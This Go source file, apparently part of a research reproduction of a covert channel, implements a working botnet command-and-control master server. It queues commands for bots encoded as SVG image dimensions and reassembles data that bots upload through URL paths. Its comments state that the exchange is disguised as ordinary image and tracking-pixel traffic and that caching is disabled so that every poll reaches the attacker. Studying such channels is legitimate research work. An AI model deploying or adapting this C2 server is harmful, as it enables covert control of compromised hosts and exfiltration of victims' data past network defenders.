@@ -1,0 +1,231 @@
+package cnc
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// command is one queued downstream message.
+type command struct {
+	id   int
+	dims []Dim
+}
+
+// MasterServer is the attacker-side C&C endpoint. It serves the covert
+// image channel over plain HTTP: to any observer it is a web server
+// handing out small SVG graphics and receiving ordinary GET requests.
+//
+// Routes:
+//
+//	GET /meta/{bot}.svg          → dims encode (latest command id, image count)
+//	GET /img/{bot}/{id}/{seq}.svg → image #seq of command id
+//	GET /up/{bot}/{stream}/{seq}/{chunk} → upstream data chunk
+//	GET /up/{bot}/{stream}/fin    → upstream stream complete
+type MasterServer struct {
+	// Delay is an artificial per-request service delay, used by the
+	// throughput experiments to model a network RTT: the channel is
+	// RTT-bound, which is why the paper's 100 KB/s figure requires
+	// "a client which sends requests for multiple images simultaneously".
+	Delay time.Duration
+
+	mu       sync.Mutex
+	nextID   int
+	commands map[string][]command           // bot → queued commands
+	uploads  map[string]map[string][][]byte // bot → stream → ordered chunks
+	finished map[string]map[string]bool     // bot → stream → fin received
+}
+
+// NewMasterServer returns an empty C&C server.
+func NewMasterServer() *MasterServer {
+	return &MasterServer{
+		nextID:   1,
+		commands: make(map[string][]command),
+		uploads:  make(map[string]map[string][][]byte),
+		finished: make(map[string]map[string]bool),
+	}
+}
+
+var _ http.Handler = (*MasterServer)(nil)
+
+// QueueCommand queues a downstream command for a bot and returns its id.
+func (m *MasterServer) QueueCommand(bot string, payload []byte) int {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	id := m.nextID
+	m.nextID++
+	m.commands[bot] = append(m.commands[bot], command{id: id, dims: EncodeDims(payload)})
+	return id
+}
+
+// Upload returns the reassembled upstream payload of a finished stream.
+func (m *MasterServer) Upload(bot, stream string) ([]byte, bool) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if !m.finished[bot][stream] {
+		return nil, false
+	}
+	var out []byte
+	for _, chunk := range m.uploads[bot][stream] {
+		out = append(out, chunk...)
+	}
+	return out, true
+}
+
+// Streams lists finished upstream stream names for a bot, sorted.
+func (m *MasterServer) Streams(bot string) []string {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	var out []string
+	for s, fin := range m.finished[bot] {
+		if fin {
+			out = append(out, s)
+		}
+	}
+	sort.Strings(out)
+	return out
+}
+
+// Bots lists every bot that has ever uploaded or been queued a command.
+func (m *MasterServer) Bots() []string {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	seen := make(map[string]struct{})
+	for b := range m.commands {
+		seen[b] = struct{}{}
+	}
+	for b := range m.uploads {
+		seen[b] = struct{}{}
+	}
+	out := make([]string, 0, len(seen))
+	for b := range seen {
+		out = append(out, b)
+	}
+	sort.Strings(out)
+	return out
+}
+
+// ServeHTTP implements the covert routes.
+func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if m.Delay > 0 {
+		time.Sleep(m.Delay)
+	}
+	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
+	switch {
+	case len(parts) == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
+		m.serveMeta(w, strings.TrimSuffix(parts[1], ".svg"))
+	case len(parts) == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
+		m.serveImage(w, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
+	case len(parts) == 4 && parts[0] == "up" && parts[3] == "fin":
+		m.finishUpload(w, parts[1], parts[2])
+	case len(parts) == 5 && parts[0] == "up":
+		m.acceptUpload(w, parts[1], parts[2], parts[3], parts[4])
+	default:
+		http.NotFound(w, r)
+	}
+}
+
+func writeSVG(w http.ResponseWriter, d Dim) {
+	w.Header().Set("Content-Type", "image/svg+xml")
+	// The images must never be cached: each poll must hit the master.
+	w.Header().Set("Cache-Control", "no-store")
+	_, _ = w.Write(RenderSVG(d))
+}
+
+func (m *MasterServer) serveMeta(w http.ResponseWriter, bot string) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	cmds := m.commands[bot]
+	if len(cmds) == 0 {
+		writeSVG(w, Dim{}) // id 0 = nothing pending
+		return
+	}
+	latest := cmds[len(cmds)-1]
+	writeSVG(w, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
+}
+
+func (m *MasterServer) serveImage(w http.ResponseWriter, bot, idStr, seqStr string) {
+	id, err1 := strconv.Atoi(idStr)
+	seq, err2 := strconv.Atoi(seqStr)
+	if err1 != nil || err2 != nil {
+		http.Error(w, "bad ref", http.StatusBadRequest)
+		return
+	}
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	for _, c := range m.commands[bot] {
+		if c.id != id {
+			continue
+		}
+		if seq < 0 || seq >= len(c.dims) {
+			http.Error(w, "bad seq", http.StatusNotFound)
+			return
+		}
+		writeSVG(w, c.dims[seq])
+		return
+	}
+	http.NotFound(w, nil)
+}
+
+func (m *MasterServer) acceptUpload(w http.ResponseWriter, bot, stream, seqStr, chunk string) {
+	seq, err := strconv.Atoi(seqStr)
+	if err != nil || seq < 0 {
+		http.Error(w, "bad seq", http.StatusBadRequest)
+		return
+	}
+	data, err := DecodeURLChunk(chunk)
+	if err != nil {
+		http.Error(w, "bad chunk", http.StatusBadRequest)
+		return
+	}
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if m.uploads[bot] == nil {
+		m.uploads[bot] = make(map[string][][]byte)
+	}
+	chunks := m.uploads[bot][stream]
+	for len(chunks) <= seq {
+		chunks = append(chunks, nil)
+	}
+	chunks[seq] = data
+	m.uploads[bot][stream] = chunks
+	// Responding with a 1x1 image keeps the exchange looking like
+	// ordinary tracking-pixel traffic.
+	writeSVG(w, Dim{W: 1, H: 1})
+}
+
+func (m *MasterServer) finishUpload(w http.ResponseWriter, bot, stream string) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if m.finished[bot] == nil {
+		m.finished[bot] = make(map[string]bool)
+	}
+	m.finished[bot][stream] = true
+	writeSVG(w, Dim{W: 1, H: 1})
+}
+
+// Serve starts the master on a loopback listener and returns its base
+// URL and a shutdown function.
+func (m *MasterServer) Serve() (baseURL string, shutdown func() error, err error) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return "", nil, fmt.Errorf("cnc master listen: %w", err)
+	}
+	srv := &http.Server{Handler: m}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		_ = srv.Serve(ln)
+	}()
+	shutdown = func() error {
+		err := srv.Close()
+		<-done
+		return err
+	}
+	return "http://" + ln.Addr().String(), shutdown, nil
+}
